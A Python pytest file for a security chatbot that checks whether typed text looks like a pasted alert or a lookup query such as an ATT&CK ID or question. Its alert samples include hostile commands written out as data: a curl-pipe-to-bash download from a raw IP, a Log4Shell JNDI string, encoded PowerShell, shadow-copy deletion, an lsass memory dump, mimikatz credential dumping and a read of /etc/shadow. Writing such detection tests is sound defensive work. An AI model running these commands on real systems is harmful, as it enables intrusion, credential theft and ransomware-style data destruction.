"""What is typed without a verb: an alert to map, or a name, an id or a question to look up."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.app import SHIPPED_SYNONYMS
from bot.commands.pasted import looks_pasted
from knowledge.library import Library
from knowledge.model import Domain, Group, Software
from knowledge.search import read_synonyms
from knowledge.sync import fill_gaps

ALERTS = [
    '{"id": "da637551", "title": "Suspicious process", "severity": "high"}',
    '[{"eventName": "DeleteTrail"}]',
    '{\n  "Operation": "New-InboxRule"\n}',
    '"eventName": "CreateAccessKey", "userAgent": "aws-cli',
    '```{"Operation":"Add member to role."}```',
    'Here is what the EDR says ```{"cmd": "whoami"}```',
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System/></Event>",
    "<?xml version='1.0'?><alert>x</alert>",
    "<Data Name='CommandLine'>cmd.exe</Data>",
    "CEF:0|Vendor|Product|1.0|100|Brute force|7|src=10.0.0.1",
    "LEEF:2.0|IBM|QRadar|1|4732|",
    "<134>Oct 11 22:14:15 fw01 sshd[311]: Failed password for root",
    "Oct 11 22:14:15 web01 sshd[311]: Failed password for root",
    "2026-05-04T10:11:12Z web01 sudo: pam_unix",
    'type=EXECVE msg=audit(1364481363.243:24287): argc=2 a0="cat"',
    "EventID=4769 ServiceName=svc_sql TicketEncryptionType=0x17",
    "src=10.0.0.1 dst=10.0.0.2",
    "Computer: FS01 User: dana Process: cmd.exe",
    'GET / - "GET /index.php?id=1 UNION SELECT 1 HTTP/1.1" 200 4821',
    "${jndi:ldap://45.9.148.3:1389/a}",
    "${jndi:ldap://45.9.148.3:1389/a} 200 512",
    "powershell -enc",
    "powershell -nop -w hidden -enc SQBFAFgA",
    "PowerShell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A",
    "vssadmin delete shadows /all /quiet",
    "vssadmin delete shadows /all /quiet was run on FS01 by locker.exe",
    "winword.exe started powershell.exe",
    "winword.exe started powershell.exe -nop -w hidden -enc on FIN-WS-14 (user: dana, 10.1.2.3)",
    "EDR: rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full on FIN-WS-14",
    "rundll32 comsvcs.dll MiniDump",
    "User bob ran powershell.exe -enc SQBFAFgA",
    "mimikatz sekurlsa::logonpasswords",
    "net user svc2 /add",
    "whoami /all",
    "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x",
    "curl http://45.9.148.3/a.sh | bash",
    "cat /etc/shadow",
    "sudo chmod +s /bin/bash",
    "kubectl exec -it web -- sh",
    "aws s3 sync --delete",
    "ssh -R 9000:localhost:22 host",
    "C:\\Windows\\System32\\cmd.exe",
    "/opt/.x/payload",
    "\\\\FS01\\ADMIN$\\PSEXESVC.exe",
    "https://evil.example/a.php",
    "hxxps://evil[.]example/a.php",
    "8.8.4.4",
    "44d88612fea8a8f36de82e1278abb02f",
    "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    "8.8.4.4\n44d88612fea8a8f36de82e1278abb02f\nevil[.]example",
    "whoami\nnet user",
    "CORP\\dana logged on from 10.1.2.3",
    "A user reported that a mail with an attached invoice asked for a password and then opened a page",
    "1,842 files were renamed to *.lockbit within two minutes and README-RESTORE.txt was dropped in every folder",
    "Reset all multi-factor factors for the finance director from an address in another country at three in the night",
    f"how did this happen {'and then it went on ' * 8}",
    "what is rundll32.exe C:\\x.dll,#1 with 10.0.0.1 and -enc doing",
]

QUESTIONS = [
    "",
    "   ",
    "T1059.001",
    "t1566 .001",
    "T1059.001, T1003",
    "T1059.001\nT1003",
    "G0016",
    "TA0002",
    "DET0001",
    "CVE-2021-44228",
    "https://attack.mitre.org/techniques/T1059/001/",
    "attack.mitre.org/groups/G0016",
    "powershell",
    "rundll32",
    "mimikatz",
    "mimikatz.exe",
    "lsass.exe",
    "kerberosting",
    "mfa fatigue",
    "pass the hash",
    "inhibit system recovery",
    "event id 4769",
    "EventID=4769",
    "sysmon 10",
    "log4j",
    "esxi ransomware",
    "impossible travel",
    "psexec lateral movement",
    "vssadmin delete shadows",
    "net user",
    "net localgroup administrators",
    "reg save sam",
    "netsh helper dll",
    "/etc/passwd and /etc/shadow",
    ".bash_profile and .bashrc",
    "cat",
    "at",
    "command & scripting interpreter",
    "valid accounts: cloud accounts",
    "169.254.169.254",
    "how do I detect kerberoasting",
    "how do I detect kerberoasting?",
    "what does apt29 use for persistence",
    "which groups use rundll32.exe",
    "who uses mimikatz.exe and psexec.exe",
    "what is lsass.exe?",
    "is vssadmin.exe bad?",
    "how do attackers use powershell -enc",
    "How can we detect that somebody forwards mail from a mailbox in Exchange Online to the outside?",
    "thanks!",
    "thanks for the help, that was really useful for all of us in the team today",
    "hello",
    "APT29 T1059",
    "apt29 persistence",
    "frobnicate",
    "🔥🔥",
    "x" * 50,
    "Ändern der Registrierung",
    "クレデンシャルダンプ",
    "what we collect",
    "CDB",
    "a=b",
]


@pytest.mark.parametrize("text", ALERTS)
def test_an_alert_is_mapped(text: str) -> None:
    assert looks_pasted(text)


@pytest.mark.parametrize("text", QUESTIONS)
def test_a_name_an_id_and_a_question_are_looked_up(text: str) -> None:
    assert not looks_pasted(text)


def test_no_name_of_attack_and_no_slang_is_taken_for_an_alert(tmp_path: Path) -> None:
    library = Library(tmp_path)
    fill_gaps(library, list(Domain))
    names = {each.phrase for each in read_synonyms(SHIPPED_SYNONYMS.read_bytes(), SHIPPED_SYNONYMS.name)}
    for item in library.catalog().objects():
        names |= {item.id, item.name, *(item.aliases if isinstance(item, Group | Software) else ())}

    assert [name for name in sorted(names) if looks_pasted(name)] == []


@pytest.mark.parametrize(
    "text",
    ["/" * 200_000, "-a " * 100_000, "a=" * 100_000, '"' * 100_000, "1." * 100_000, "a:b " * 50_000, "<a" * 100_000],
)
def test_a_very_long_text_is_judged_by_its_beginning(text: str) -> None:
    assert looks_pasted(text) in (True, False)
